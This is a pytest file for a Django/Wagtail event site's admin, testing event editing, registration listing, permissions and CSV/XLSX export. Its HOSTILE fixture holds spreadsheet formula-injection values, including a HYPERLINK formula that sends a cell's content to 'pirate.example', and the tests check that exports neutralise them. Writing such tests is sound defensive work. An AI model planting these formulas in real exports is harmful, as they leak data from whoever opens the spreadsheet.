"""Admin: event pages' editor with its map panel, editors' registrations list and export."""

from __future__ import annotations

import csv
import datetime
import io
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from events.models import EventPage, Registration

from .factories import RegistrationFactory, make_event

pytestmark = pytest.mark.django_db

User = get_user_model()


@pytest.fixture
def admin_client(client):
    user = User.objects.create_superuser("admin", "admin@exemple.org", "mot-de-passe-long-2020")
    client.force_login(user)
    return client


@pytest.fixture
def event(agenda):
    return make_event(
        parent=agenda,
        title="Qualité de l'eau",
        registration_mode=EventPage.RegistrationMode.BUILT_IN,
        capacity=1,
        format=EventPage.Format.IN_PERSON,
        venue_name="Grand Angoulême",
        venue_city="Angoulême",
        location="SRID=4326;POINT(0.1566 45.6484)",
    )


def test_event_edit_view_renders_with_the_vendored_map(admin_client, event):
    response = admin_client.get(reverse("wagtailadmin_pages:edit", args=[event.pk]))
    assert response.status_code == HTTPStatus.OK
    text = response.text
    assert "Séances" in text
    assert "vendor/leaflet/leaflet.js" in text
    assert "unpkg.com" not in text


def test_event_can_be_added_under_the_agenda(admin_client, agenda):
    url = reverse("wagtailadmin_pages:add", args=["events", "eventpage", agenda.pk])
    assert admin_client.get(url).status_code == HTTPStatus.OK


def _csv_rows(response) -> list[list[str]]:
    """The admin's CSV: UTF-8 with a byte-order mark and `;`, for French spreadsheets."""
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


HOSTILE = {
    "first_name": "+1+1",
    "last_name": "@SUM(A1:A9)",
    "role": '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")',
    # Control characters an XLSX file cannot hold (openpyxl refused them: a 500); not NUL,
    # which PostgreSQL does not store.
    "accessibility_needs": "Fauteuil\x01 roulant\x0b\x1b[31m, boucle\x08 magnétique",
}


def test_registration_with_control_characters_and_formulas_exports_as_xlsx(admin_client, event):
    RegistrationFactory(event=event, email="piege@exemple.org", attended=True, **HOSTILE)
    response = admin_client.get(reverse("inscriptions:index") + "?export=xlsx")
    assert response.status_code == HTTPStatus.OK
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.iter_rows(values_only=True))
    headings, row = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert headings[:2] == ("Événement", "État")
    assert row["Prénom"] == "'+1+1"
    assert row["Nom"] == "'@SUM(A1:A9)"
    assert row["Fonction"] == '\'=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'
    assert row["Besoins d'accessibilité"] == "Fauteuil roulant[31m, boucle magnétique"
    assert row["État"] == "Confirmée"
    assert row["Présent"] == "Oui"
    assert row["Événement"] == "Qualité de l'eau"
    assert isinstance(row["Inscrit le"], datetime.datetime)


def test_registration_with_control_characters_and_formulas_exports_as_csv(admin_client, event):
    RegistrationFactory(event=event, email="piege@exemple.org", **HOSTILE)
    response = admin_client.get(reverse("inscriptions:index") + "?export=csv")
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    headings, values = _csv_rows(response)
    row = dict(zip(headings, values, strict=True))
    assert row["Prénom"] == "'+1+1"
    assert row["Nom"] == "'@SUM(A1:A9)"
    assert row["Fonction"].startswith("'=HYPERLINK(")
    assert row["Besoins d'accessibilité"] == "Fauteuil roulant[31m, boucle magnétique"
    assert row["État"] == "Confirmée"
    # Programs can ask for commas (and get no byte-order mark).
    plain = admin_client.get(reverse("inscriptions:index") + "?export=csv&sep=comma")
    body = b"".join(plain.streaming_content).decode("utf-8")
    assert body.startswith("Événement,État,")


def test_registrations_list_and_csv_export(admin_client, event):
    RegistrationFactory(event=event, first_name="Awa", last_name="Traoré", email="awa@exemple.org")
    RegistrationFactory(
        event=event, first_name="Koffi", email="koffi@exemple.org", status="attente"
    )
    listing = admin_client.get(reverse("inscriptions:index"))
    assert listing.status_code == HTTPStatus.OK
    assert "awa@exemple.org" in listing.text
    export = admin_client.get(reverse("inscriptions:index") + "?export=csv")
    assert export.status_code == HTTPStatus.OK
    rows = _csv_rows(export)
    assert rows[0][:5] == ["Événement", "État", "Prénom", "Nom", "Adresse électronique"]
    assert {row[4] for row in rows[1:]} == {"awa@exemple.org", "koffi@exemple.org"}
    # Labels, not codes.
    assert {row[1] for row in rows[1:]} == {"Confirmée", "Liste d'attente"}
    filtered = admin_client.get(reverse("inscriptions:index") + "?status=attente&export=csv")
    body = b"".join(filtered.streaming_content).decode("utf-8")
    assert "koffi@exemple.org" in body and "awa@exemple.org" not in body


def test_editor_records_attendance(admin_client, event):
    registration = RegistrationFactory(event=event)
    url = reverse("inscriptions:edit", args=[registration.pk])
    response = admin_client.post(
        url,
        {
            "status": "confirmee",
            "first_name": registration.first_name,
            "last_name": registration.last_name,
            "email": registration.email,
            "organisation": registration.organisation,
            "role": "",
            "accessibility_needs": "",
            "attended": "true",
        },
    )
    assert response.status_code == HTTPStatus.FOUND
    registration.refresh_from_db()
    assert registration.attended is True


def test_a_member_without_the_permission_cannot_see_registrations(client, event):
    user = User.objects.create_user("membre", "membre@exemple.org", "mot-de-passe-long-2020")
    group = Group.objects.create(name="Membre – Eau Vive")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    user.groups.add(group)
    client.force_login(user)
    RegistrationFactory(event=event, email="privee@exemple.org")
    response = client.get(reverse("inscriptions:index"))
    assert response.status_code in (HTTPStatus.FOUND, HTTPStatus.FORBIDDEN)
    assert "privee@exemple.org" not in response.content.decode()
    assert Registration.objects.count() == 1


def _edit_post(event: EventPage, *, start: str, end: str, group=None) -> dict:
    from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

    return nested_form_data(
        {
            "title": event.title,
            "slug": event.slug,
            "kind": "formation",
            "status": "prevu",
            "summary_text": "",
            "sessions": inline_formset(
                [{"label": "Séance 1", "start_at": start, "end_at": end, "cancelled": False}]
            ),
            "description": streamfield([]),
            "format": "presentiel",
            "venue_name": "Grand Angoulême",
            "venue_city": "Angoulême",
            "audience": "public",
            "price": "0",
            "registration_mode": "aucune",
            "group": group.pk if group else "",
            "action-publish": "publish",
        }
    )


def test_the_admin_refuses_a_session_ending_before_it_starts(admin_client, event):
    before = (event.start_at, event.end_at)
    url = reverse("wagtailadmin_pages:edit", args=[event.pk])
    response = admin_client.post(
        url, _edit_post(event, start="2030-01-10 14:00", end="2030-01-10 09:00")
    )
    assert response.status_code == HTTPStatus.OK  # the form again, with its errors
    assert "La fin de la séance précède son début." in response.text
    event.refresh_from_db()
    assert (event.start_at, event.end_at) == before
    assert event.sessions.count() == 1


def test_the_admin_saves_the_working_group(admin_client, event, home):
    from working_groups.tests.factories import GroupPageFactory

    group = GroupPageFactory(parent=home, title="Groupe Togo")
    url = reverse("wagtailadmin_pages:edit", args=[event.pk])
    assert "Groupe de travail" in admin_client.get(url).text
    response = admin_client.post(
        url, _edit_post(event, start="2030-01-10 09:00", end="2030-01-10 12:00", group=group)
    )
    assert response.status_code == HTTPStatus.FOUND, response.text[:2000]
    event.refresh_from_db()
    assert event.group_id == group.pk
